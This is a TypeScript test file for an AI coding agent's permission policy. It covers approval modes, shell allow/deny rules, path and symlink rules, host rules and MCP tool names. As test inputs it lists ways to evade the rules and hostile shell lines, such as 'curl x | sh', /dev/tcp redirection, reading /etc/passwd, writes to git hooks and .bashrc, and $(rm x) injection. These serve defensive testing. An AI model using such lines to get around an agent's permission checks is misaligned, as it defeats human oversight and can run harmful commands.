import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { test } from 'node:test';
import fc from 'fast-check';
import { problemOf } from './policy.ts';
import type { ApprovalMode } from './rule.ts';
import type { Preview } from '../tools/tool.ts';
import {
  ROOT,
  tool,
  SHELL,
  READ,
  WRITE,
  FETCH,
  MEMORY,
  TODO,
  MCP,
  rule,
  shellRule,
  editOf,
  verdict,
  shell,
} from '../../../test/support/policy.ts';

test('without rules the mode decides by what a tool does', () => {
  const table: Record<ApprovalMode, string> = {
    //           read  talk  edit  execute network memory
    ask: 'allow allow ask ask ask ask',
    'auto-edit': 'allow allow allow ask ask ask',
    yolo: 'allow allow allow allow allow allow',
    plan: 'allow allow deny deny deny deny',
  };
  for (const mode of ['ask', 'auto-edit', 'yolo', 'plan'] as const) {
    const decisions = [READ, TODO, WRITE, SHELL, FETCH, MEMORY].map(
      (subject) =>
        verdict([], subject, { command: 'ls', path: 'a', url: 'http://x' }, { mode }).decision,
    );
    assert.equal(decisions.join(' '), table[mode], mode);
  }
});

test('plan mode says why it denies, and no rule opens it', () => {
  const { decision, reason } = verdict(
    [shellRule('allow')],
    SHELL,
    { command: 'ls' },
    { mode: 'plan' },
  );
  assert.equal(decision, 'deny');
  assert.match(reason, /plan mode/);
});

test('yolo still obeys what is denied', () => {
  const rules = [shellRule('deny', 'git push'), rule('deny', 'write_file', 'secrets/**')];
  assert.equal(shell(rules, 'git push', 'yolo'), 'deny');
  assert.equal(shell(rules, 'git pull', 'yolo'), 'allow');
  assert.equal(shell([shellRule('ask', 'git push')], 'git push', 'yolo'), 'allow');
  assert.equal(verdict(rules, WRITE, { path: 'secrets/a' }, { mode: 'yolo' }).decision, 'deny');
});

test('in yolo a line that may hide what is denied is asked about', () => {
  const rules = [shellRule('deny', 'git push')];
  assert.equal(shell(rules, '$X', 'yolo'), 'ask');
  assert.equal(shell(rules, 'git $X', 'yolo'), 'ask');
  assert.equal(shell(rules, 'ls; git $X', 'yolo'), 'ask');
  assert.equal(shell([], '$X', 'yolo'), 'allow');
  assert.equal(shell([shellRule('ask', 'git push')], 'git $X; f() { x; }', 'yolo'), 'allow');
});

test('in yolo an exact rule that denies asks about an expansion, whose number of words is unknown', () => {
  const rules = [shellRule('deny', 'git push $')];
  const lines = ['git push', 'git $A push', 'git $A', 'git `x` push', 'git *', 'git push origin'];
  const decisions = lines.map((line) => shell(rules, line, 'yolo'));
  assert.equal(decisions.join(' '), 'deny ask ask ask ask allow');
});

test('in yolo no unusual form of a command gets past a rule that denies it', () => {
  const forms: Record<string, string> = {
    'env 1=2 rm f': 'deny',
    'time X=1 rm f': 'ask',
    'jobs -x rm f': 'ask',
    "x['$(rm f)']=1": 'ask',
    'source <(echo rm f)': 'ask',
    ". /dev/stdin <<<'rm f'": 'ask',
    'hash -p /bin/rm z; z f': 'ask',
    "RANDOM='a[$(rm f)]'": 'ask',
    'export A=1; ls': 'allow',
  };
  for (const [line, decision] of Object.entries(forms)) {
    assert.equal(shell([shellRule('deny', 'rm')], line, 'yolo'), decision, line);
  }
});

test('a saved rule counts only in the workspace where it was saved', () => {
  const saved = (workspace: string) => ({ ...shellRule('allow', 'make'), workspace });
  const decisions = [ROOT, '/elsewhere'].map((workspace) => shell([saved(workspace)], 'make'));
  assert.deepEqual(decisions, ['allow', 'ask']);
});

test('the last rule that matches wins', () => {
  const rules = [
    shellRule('allow', 'git'),
    shellRule('deny', 'git push'),
    shellRule('allow', 'git push origin docs $'),
  ];
  assert.equal(shell(rules, 'git log'), 'allow');
  assert.equal(shell(rules, 'git push'), 'deny');
  assert.equal(shell(rules, 'git push origin docs'), 'allow');
  assert.equal(shell(rules, 'git push origin docs --force'), 'deny');
});

test('a rule for a command covers it with more words, and nothing else', () => {
  const rules = [
    shellRule('allow', 'git status'),
    shellRule('allow', 'git log'),
    shellRule('allow', 'npm run * $'),
  ];
  for (const line of [
    'git status',
    'git status --short',
    'git  status;',
    'git log | git status',
    "'git' status 2>&1",
    'git log -- src/*.ts',
    'git log < list.txt',
    'npm run build',
    '(git log) 2>/dev/null',
  ]) {
    assert.equal(shell(rules, line), 'allow', line);
  }
  for (const line of [
    'git',
    'git statusx',
    'git stash',
    'git --no-pager status',
    'git -c core.pager=evil log',
    "GIT_PAGER='rm x' git log",
    'env GIT_PAGER=x git log',
    'PATH=/tmp; git status',
    'git status && rm -rf x',
    'git status; rm x',
    'git status\nrm x',
    'git status & rm x',
    'git status | sh',
    'git status $(rm x)',
    'git status `rm x`',
    'git status "$(rm x)"',
    'git status <(rm x)',
    'git status > ~/.bashrc',
    'git status >> .git/hooks/pre-commit',
    'git status &> x',
    'sudo git status',
    './git status',
    '/tmp/git status',
    'command git status',
    'git() { rm x; }; git status',
    'alias git=rm; git status',
    'for PATH in /tmp; do git status; done',
    'git $(echo status)',
    'git stat*',
    '$GIT status',
    'git status <<E\n$(rm x)\nE\n',
    'git status < /dev/tcp/example.com/80',
    'git log -- $FILE',
    'git log -- *.ts',
    'git log < /etc/passwd',
    'git log < ../list.txt',
    'npm run build x',
    'npm run $X',
    '',
    '# git status',
    '> git',
  ]) {
    assert.notEqual(shell(rules, line), 'allow', line);
  }
});

test('whatever is put behind an allowed command as another one is not covered', () => {
  const rules = [shellRule('allow', 'git status')];
  const join = fc.constantFrom(';', '&&', '||', '|', '&', '\n', '|&', ' ; ', '\n\n');
  // A word that only gives shape is no command: bash refuses the line.
  const shape = /^(?:if|then|else|elif|fi|while|until|do|done)(?![\w-])/;
  const other = fc
    .string({ minLength: 1 })
    .filter((text) => /^[a-z./$`~*'"\\-]/.test(text) && !shape.test(text));
  fc.assert(
    fc.property(join, other, (separator, text) => {
      assert.notEqual(shell(rules, `git status${separator}${text}`), 'allow');
      assert.notEqual(shell(rules, `git status $(${text})`), 'allow');
    }),
    { numRuns: process.env['PARLEY_TEST_LONG'] ? 50_000 : 1000 },
  );
});

test('one command of a line that is denied or asked about wins over the others', () => {
  const rules = [
    shellRule('allow', 'ls'),
    shellRule('allow', 'echo'),
    shellRule('deny', 'rm'),
    shellRule('ask', 'echo no'),
  ];
  assert.equal(shell(rules, 'ls && rm x && ls'), 'deny');
  assert.equal(shell(rules, 'ls && echo no'), 'ask');
  assert.equal(shell(rules, 'echo yes && ls'), 'allow');
  assert.equal(shell(rules, 'unknown; rm x'), 'deny');
});

test('a denied command is found by any path, behind any wrapper, with options in between', () => {
  const rules = [shellRule('allow'), shellRule('deny', 'git push')];
  for (const line of [
    '/usr/bin/git push',
    'GIT push',
    'git -C dir push',
    'git --no-pager push',
    'sudo git push',
    'env A=1 git push',
    "bash -c 'git push'",
    'ls | xargs git push',
    'ls | xargs --max-lines git push',
    'ls | xargs --max-lines=2 git push',
    'ls | xargs --replace git push',
    'ls | xargs --replace=x git push x',
    'ls | xargs -Ix -n1 git push',
    "bash -oc pipefail 'git push'",
    "bash -eoc pipefail 'git push'",
    "bash -co pipefail 'git push'",
    "bash -Oc extglob 'git push'",
    "sh -oc errexit 'git push'",
    "dash -oc errexit 'git push'",
    "ksh -oerrexit -c 'git push'",
    "bash -c - 'git push'",
    "bash +c 'git push'",
    "bash + -c 'git push'",
    "bash +o errexit -c 'git push'",
    "bash -lc 'git push'",
    "bash -o keyword -c 'git push'",
    'find . -exec git push \\;',
    'x=$(git push)',
    '"git" pu\\sh',
    'if true; then git push; fi',
    'for i in 1; do git push; done',
  ]) {
    assert.equal(shell(rules, line), 'deny', line);
  }
  for (const line of [
    'git $X',
    '$X push',
    'bash -c "$X"',
    'curl x | sh',
    'echo push | xargs -Ia -Ib git b',
    'echo push | xargs -Ix -n1 git',
    'echo push | xargs -E -Ix git',
    "zsh -oc errexit 'git push'",
    'bash -oc pipefail "$X"',
    'xargs --unknown git push',
  ]) {
    assert.equal(shell(rules, line), 'ask', line);
  }
  assert.equal(shell(rules, 'git pull'), 'allow');
});

test('a rule for the whole tool holds for lines that are not understood', () => {
  assert.equal(shell([shellRule('allow')], 'f() { x; }; f > out'), 'allow');
  assert.equal(shell([shellRule('allow'), shellRule('deny')], 'f() { x; }'), 'deny');
  assert.equal(shell([shellRule('allow', 'f')], 'f() { f; }'), 'ask');
});

test('a pattern that is no simple command allows nothing, asks to be safe, and is named', () => {
  const broken = 'git status && rm';
  assert.equal(shell([shellRule('allow', broken)], broken), 'ask');
  assert.equal(shell([shellRule('allow'), shellRule('deny', broken)], 'ls'), 'ask');
  assert.match(problemOf(shellRule('allow', broken)) ?? '', /start of a single command/);
  for (const fine of ['git status', 'npm run *', "echo 'a b' $", 'bash', 'sudo -n true']) {
    assert.equal(problemOf(shellRule('allow', fine)), undefined, fine);
  }
});

test('a rule that means nothing is named: an unknown tool, a pattern that leads out or is none', () => {
  for (const [wrong, why] of [
    [rule('deny', 'run_shell_comand'), /unknown tool "run_shell_comand"; use one of read_file, /],
    [rule('deny', 'read_file', '/etc/**'), /not inside the workspace/],
    [rule('deny', 'read_file', 'a/../b'), /not inside the workspace/],
    [rule('deny', 'read_file', ''), /empty/],
    [rule('deny', 'read_file', '{a,b}'.repeat(20)), /braces/],
  ] as const) {
    assert.match(problemOf(wrong) ?? '', why);
  }
  for (const fine of [
    rule('allow', 'git__*'),
    rule('allow', 'git__log', 'src/**'),
    rule('ask', '*'),
    rule('deny', 'write_file', 'app/[a-z]*.{ts,tsx}'),
    rule('allow', 'fetch_url', '[::1]'),
  ]) {
    assert.equal(problemOf(fine), undefined, JSON.stringify(fine));
  }
});

test('a pattern that is none allows nothing, and forbids to be safe', () => {
  const none = '{a,b}'.repeat(20);
  assert.equal(verdict([rule('allow', 'write_file', none)], WRITE, { path: 'a' }).decision, 'ask');
  assert.equal(verdict([rule('deny', 'write_file', none)], WRITE, { path: 'a' }).decision, 'deny');
});

test('path rules are globs under the workspace, and all files of a patch must be covered', () => {
  const rules = [
    rule('allow', 'write_file', 'docs/**'),
    rule('allow', 'apply_patch', 'docs/**'),
    rule('deny', 'read_file', '**/.env'),
  ];
  const patch = tool('apply_patch', 'edit');
  assert.equal(verdict(rules, WRITE, { path: 'docs/a.md' }).decision, 'allow');
  assert.equal(verdict(rules, WRITE, { path: `${ROOT}/docs/a.md` }).decision, 'allow');
  assert.equal(verdict(rules, WRITE, { path: 'docs/../src/a.ts' }).decision, 'ask');
  assert.equal(verdict(rules, WRITE, { path: '/etc/docs/x' }).decision, 'ask');
  assert.equal(verdict(rules, READ, { path: 'a/.env' }).decision, 'deny');
  assert.equal(
    verdict(rules, patch, {}, { preview: editOf('docs/a', 'docs/b') }).decision,
    'allow',
  );
  assert.equal(verdict(rules, patch, {}, { preview: editOf('docs/a', 'src/b') }).decision, 'ask');
});

test('a link does not lead around a rule', (t) => {
  const root = realpathSync(mkdtempSync(path.join(tmpdir(), 'parley-policy-')));
  t.after(() => rmSync(root, { recursive: true }));
  mkdirSync(path.join(root, 'docs'));
  writeFileSync(path.join(root, '.env'), 'secret');
  symlinkSync('../.env', path.join(root, 'docs/link'));
  symlinkSync('..', path.join(root, 'docs/up'));
  const rules = [rule('deny', 'read_file', '.env'), rule('allow', 'write_file', 'docs/**')];
  assert.equal(verdict(rules, READ, { path: 'docs/link' }, { root }).decision, 'deny');
  assert.equal(verdict(rules, READ, { path: 'docs/up/.env' }, { root }).decision, 'deny');
  assert.equal(verdict(rules, WRITE, { path: 'docs/up/new.ts' }, { root }).decision, 'ask');
  assert.equal(verdict(rules, WRITE, { path: 'docs/new.md' }, { root }).decision, 'allow');
});

test('a rule that asks about one part of a call counts, wherever the part stands', () => {
  const patch = tool('apply_patch', 'edit');
  for (const files of [
    ['src/a.ts', '.git/hooks/pre-commit'],
    ['.git/hooks/pre-commit', 'src/a.ts'],
  ]) {
    const preview = editOf(...files);
    assert.equal(verdict([], patch, {}, { mode: 'auto-edit', preview }).decision, 'ask');
  }
  const rules = [shellRule('ask', 'grep')];
  const readsOnly = true;
  for (const command of ['cat a.txt | grep x', 'grep x a.txt | cat']) {
    assert.equal(verdict(rules, SHELL, { command }, { readsOnly }).decision, 'ask', command);
  }
});

test('edits of hooks and of our own settings are asked about even when edits are free', () => {
  for (const file of ['.git/hooks/pre-commit', 'sub/.git/config', '.parley/settings.json']) {
    const preview = editOf(file);
    assert.equal(
      verdict([], WRITE, { path: file }, { mode: 'auto-edit', preview }).decision,
      'ask',
      file,
    );
  }
  assert.equal(verdict([], WRITE, { path: '.gitignore' }, { mode: 'auto-edit' }).decision, 'allow');
});

test('edits of our own settings are asked about under every name that some file system treats as equal', () => {
  const files = [
    '.PARLEY/commands/a.md',
    'sub/.Parley/x',
    '.parley./x',
    '.par\u200bley/x',
    '.GIT/hooks/x',
  ];
  for (const file of files) {
    const preview = editOf(file);
    const { decision } = verdict([], WRITE, { path: file }, { mode: 'auto-edit', preview });
    assert.equal(decision, 'ask', file);
  }
});

test('a host in a rule may be written in any form that means one host', () => {
  for (const [pattern, host] of [
    ['bücher.example', 'xn--bcher-kva.example'],
    ['BÜCHER.example', 'bücher.example'],
    ['*.bücher.example', 'www.bücher.example'],
    ['evil.example.', 'evil.example'],
    ['*.example.', 'evil.example.'],
    ['Evil.Example', 'evil.example'],
    ['::1', '[::1]'],
    ['[::1]', '[0::1]'],
    ['127.1', '127.0.0.1'],
  ] as const) {
    const deny = rule('deny', 'fetch_url', pattern);
    assert.equal(problemOf(deny), undefined, pattern);
    assert.equal(verdict([deny], FETCH, { url: `https://${host}/x` }).decision, 'deny', pattern);
  }
});

test('a pattern that is no host is named', () => {
  for (const pattern of [
    'https://evil.example/',
    'evil.example/path',
    'https://*',
    'evil.example:8080',
    'ann@evil.example',
    'evil example',
    '',
    '.',
    '*.bü*.example',
    'evil.example#x',
    'evil.example\\x',
    '1:2',
    '*:8080',
  ]) {
    assert.match(problemOf(rule('deny', 'fetch_url', pattern)) ?? '', /is not a host/, pattern);
  }
  for (const pattern of [
    '*',
    '*.example.com',
    'example.???',
    'a_b.example',
    'localhost',
    '[fe80:*]',
  ]) {
    assert.equal(problemOf(rule('deny', 'fetch_url', pattern)), undefined, pattern);
  }
});

test('a pattern for files in a rule for every tool says nothing about hosts', () => {
  const rules = [rule('deny', '*', 'secrets/**')];
  assert.equal(verdict(rules, FETCH, { url: 'https://a.example/' }).decision, 'ask');
});

test('a rule for a tool of a server matches its name as the settings and the server write it', () => {
  const subject = {
    name: 'my_server__issues_delete',
    fullName: 'my.server__issues.delete',
    effect: 'network' as const,
  };
  const preview: Preview = { kind: 'mcp', server: 'my.server', tool: 'issues.delete' };
  for (const name of [
    'my.server__*',
    'my.server__issues.delete',
    'my_server__issues_delete',
    'my_server__*',
    '*__issues.delete',
  ]) {
    for (const decision of ['deny', 'ask'] as const) {
      const rules = [rule('allow', '*'), rule(decision, name)];
      assert.equal(verdict(rules, subject, {}, { preview }).decision, decision, name);
    }
  }
  for (const name of ['my.server__*', 'my.server__issues.delete', 'my_server__issues_delete']) {
    assert.equal(verdict([rule('allow', name)], subject, {}, { preview }).decision, 'allow', name);
  }
  assert.equal(verdict([rule('allow', 'my_server__*')], subject, {}, { preview }).decision, 'ask');
});

test('host rules look at the host alone', () => {
  const rules = [
    rule('allow', 'fetch_url', '*.example.com'),
    rule('deny', 'fetch_url', 'evil.example.com'),
  ];
  const fetched = (url: string): string => verdict(rules, FETCH, { url }).decision;
  assert.equal(fetched('https://docs.example.com/a'), 'allow');
  assert.equal(fetched('https://DOCS.EXAMPLE.COM./a'), 'allow');
  assert.equal(fetched('https://evil.example.com'), 'deny');
  assert.equal(fetched('https://example.com'), 'ask');
  assert.equal(fetched('https://x.org/?a=docs.example.com'), 'ask');
  assert.equal(fetched('https://docs.example.com@x.org/'), 'ask');
  assert.equal(fetched('nonsense'), 'deny');
});

test('a rule for a server is about that server', () => {
  const preview: Preview = { kind: 'mcp', server: 'github', tool: 'search' };
  const other: Preview = { kind: 'mcp', server: 'github__evil', tool: 'search' };
  const rules = [rule('allow', 'github__*')];
  assert.equal(verdict(rules, MCP, {}, { preview }).decision, 'allow');
  assert.equal(
    verdict(rules, tool('github__evil__search', 'network'), {}, { preview: other }).decision,
    'ask',
  );
  assert.equal(verdict([rule('deny', '*__search')], MCP, {}, { preview }).decision, 'deny');
});
